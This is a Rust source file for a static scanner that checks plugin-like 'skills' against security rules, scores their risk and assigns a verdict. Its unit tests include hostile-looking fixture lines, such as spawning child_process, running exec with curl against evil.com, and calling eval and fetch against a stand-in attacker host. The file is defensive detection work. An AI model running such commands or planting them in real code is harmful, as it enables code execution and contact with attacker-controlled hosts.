//! The static scanner: applies the rule catalogue to skill source text and
//! aggregates findings into a risk-scored report.

pub mod walker;

use std::time::Instant;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use tracing::debug;

use crate::rules::{catalog, Rule, Severity};

const SNIPPET_MAX_LEN: usize = 80;

/// Maximum risk score; severity weights sum up to this cap.
pub const MAX_RISK_SCORE: u32 = 100;

/// One rule match in one file. Immutable once created.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Finding {
    pub rule_id: String,
    pub rule_name: String,
    pub severity: Severity,
    /// Internal file path; stripped before external exposure.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub file: Option<String>,
    /// 1-based line number.
    pub line: usize,
    /// 0-based byte offset of the match on the line.
    pub column: usize,
    /// Matched text, truncated.
    pub snippet: String,
    pub description: String,
    pub remediation: String,
}

/// Three-tier trust classification derived from the risk score.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    Verified,
    Reviewed,
    Flagged,
}

impl Verdict {
    /// Threshold table: score < 30 verified, < 50 reviewed, else flagged.
    pub fn from_score(score: u32) -> Self {
        if score < 30 {
            Self::Verified
        } else if score < 50 {
            Self::Reviewed
        } else {
            Self::Flagged
        }
    }
}

impl std::fmt::Display for Verdict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Verified => write!(f, "verified"),
            Self::Reviewed => write!(f, "reviewed"),
            Self::Flagged => write!(f, "flagged"),
        }
    }
}

/// A file that could not be read. Attributed to the file so one unreadable
/// input never aborts the rest of the skill scan.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ScanError {
    pub file: String,
    pub message: String,
}

/// The immutable result of one scan invocation. A re-scan produces a new
/// report; stored reports are never updated in place.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ScanReport {
    pub skill_name: String,
    pub scanned_at: DateTime<Utc>,
    pub files_scanned: usize,
    pub total_findings: usize,
    /// Findings in scan order (file order, then line order), not severity.
    pub findings: Vec<Finding>,
    /// 0–100, capped sum of severity weights.
    pub risk_score: u32,
    pub verdict: Verdict,
    pub scan_duration_ms: u64,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub errors: Vec<ScanError>,
}

/// Applies every catalogue rule to every line of every file.
///
/// Detection is deterministic: identical input bytes always yield identical
/// findings and score. Only `scanned_at` and `scan_duration_ms` observe the
/// clock.
pub struct Scanner {
    rules: &'static [Rule],
}

impl Scanner {
    pub fn new() -> Self {
        Self { rules: catalog() }
    }

    /// Scan one file's text. Returns matches in line order; within a line,
    /// catalogue order.
    pub fn scan_file(&self, path: &str, content: &str) -> Vec<Finding> {
        let mut findings = Vec::new();

        for (line_idx, line) in content.lines().enumerate() {
            for rule in self.rules {
                if let Some(m) = rule.matches(line) {
                    findings.push(Finding {
                        rule_id: rule.id.into(),
                        rule_name: rule.name.into(),
                        severity: rule.severity,
                        file: Some(path.to_string()),
                        line: line_idx + 1,
                        column: m.column,
                        snippet: truncate_snippet(&m.text),
                        description: rule.description.into(),
                        remediation: rule.remediation.into(),
                    });
                }
            }
        }

        findings
    }

    /// Scan a whole skill from already-enumerated `(path, content)` pairs.
    ///
    /// File enumeration belongs to the caller (directory walker or virtual
    /// source map); per-file read failures arrive as `errors` and are carried
    /// on the report without affecting detection of the readable files.
    pub fn scan_skill(
        &self,
        skill_name: &str,
        files: &[(String, String)],
        errors: Vec<ScanError>,
    ) -> ScanReport {
        let started = Instant::now();
        let scanned_at = Utc::now();

        let mut findings = Vec::new();
        for (path, content) in files {
            findings.extend(self.scan_file(path, content));
        }

        let risk_score = risk_score(&findings);
        let verdict = Verdict::from_score(risk_score);
        debug!(
            skill = skill_name,
            files = files.len(),
            findings = findings.len(),
            risk_score,
            "scan complete"
        );

        ScanReport {
            skill_name: skill_name.to_string(),
            scanned_at,
            files_scanned: files.len(),
            total_findings: findings.len(),
            findings,
            risk_score,
            verdict,
            scan_duration_ms: started.elapsed().as_millis() as u64,
            errors,
        }
    }
}

impl Default for Scanner {
    fn default() -> Self {
        Self::new()
    }
}

/// Capped sum of severity weights.
pub fn risk_score(findings: &[Finding]) -> u32 {
    findings
        .iter()
        .map(|f| f.severity.weight())
        .sum::<u32>()
        .min(MAX_RISK_SCORE)
}

fn truncate_snippet(text: &str) -> String {
    if text.len() <= SNIPPET_MAX_LEN {
        return text.to_string();
    }
    let mut end = SNIPPET_MAX_LEN;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}...", &text[..end])
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn clean_file_yields_empty_verified_report() {
        let scanner = Scanner::new();
        let files = vec![("index.ts".to_string(), "const x = 1;\n".to_string())];
        let report = scanner.scan_skill("clean-skill", &files, vec![]);

        assert_eq!(report.total_findings, 0);
        assert_eq!(report.risk_score, 0);
        assert_eq!(report.verdict, Verdict::Verified);
        assert_eq!(report.files_scanned, 1);
    }

    #[test]
    fn malicious_skill_is_flagged_with_expected_score() {
        let scanner = Scanner::new();
        let source = "const cp = require('child_process');\n\
                      exec('curl https://evil.com')\n\
                      const x = eval('1')";
        let files = vec![("index.ts".to_string(), source.to_string())];
        let report = scanner.scan_skill("evil-skill", &files, vec![]);

        assert_eq!(report.total_findings, 3);
        let ids: Vec<&str> = report.findings.iter().map(|f| f.rule_id.as_str()).collect();
        assert_eq!(ids, vec!["SEC-003", "NET-005", "SEC-001"]);
        assert_eq!(report.findings[0].severity, Severity::Critical);
        assert_eq!(report.findings[1].severity, Severity::Critical);
        assert_eq!(report.findings[2].severity, Severity::High);
        assert_eq!(report.risk_score, 65);
        assert_eq!(report.verdict, Verdict::Flagged);
    }

    #[test]
    fn findings_keep_scan_order_not_severity_order() {
        let scanner = Scanner::new();
        let source = "const srv = http.createServer(h)\nconst y = eval('x')\n";
        let findings = scanner.scan_file("a.js", source);

        assert_eq!(findings[0].rule_id, "NET-001");
        assert_eq!(findings[1].rule_id, "SEC-001");
        assert_eq!(findings[0].line, 1);
        assert_eq!(findings[1].line, 2);
    }

    #[test]
    fn risk_score_caps_at_100() {
        let scanner = Scanner::new();
        // Five criticals = 125 raw.
        let source = "require('child_process')\n".repeat(5);
        let files = vec![("x.js".to_string(), source)];
        let report = scanner.scan_skill("cap", &files, vec![]);
        assert_eq!(report.risk_score, 100);
        assert_eq!(report.verdict, Verdict::Flagged);
    }

    #[test]
    fn verdict_threshold_boundaries() {
        assert_eq!(Verdict::from_score(0), Verdict::Verified);
        assert_eq!(Verdict::from_score(29), Verdict::Verified);
        assert_eq!(Verdict::from_score(30), Verdict::Reviewed);
        assert_eq!(Verdict::from_score(49), Verdict::Reviewed);
        assert_eq!(Verdict::from_score(50), Verdict::Flagged);
        assert_eq!(Verdict::from_score(100), Verdict::Flagged);
    }

    #[test]
    fn scan_errors_ride_along_without_blocking_findings() {
        let scanner = Scanner::new();
        let files = vec![("ok.js".to_string(), "eval('1')".to_string())];
        let errors = vec![ScanError {
            file: "broken.js".into(),
            message: "permission denied".into(),
        }];
        let report = scanner.scan_skill("partial", &files, errors);

        assert_eq!(report.total_findings, 1);
        assert_eq!(report.errors.len(), 1);
        assert_eq!(report.errors[0].file, "broken.js");
    }

    #[test]
    fn scanning_is_deterministic() {
        let scanner = Scanner::new();
        let files = vec![(
            "a.ts".to_string(),
            "fetch('https://api.evil.com')\neval('x')\n".to_string(),
        )];
        let a = scanner.scan_skill("det", &files, vec![]);
        let b = scanner.scan_skill("det", &files, vec![]);
        assert_eq!(a.findings, b.findings);
        assert_eq!(a.risk_score, b.risk_score);
    }

    #[test]
    fn long_matches_are_truncated() {
        let long = format!("eval({})", "x".repeat(200));
        let snippet = truncate_snippet(&long);
        assert!(snippet.len() <= SNIPPET_MAX_LEN + 3);
        assert!(snippet.ends_with("..."));
    }
}
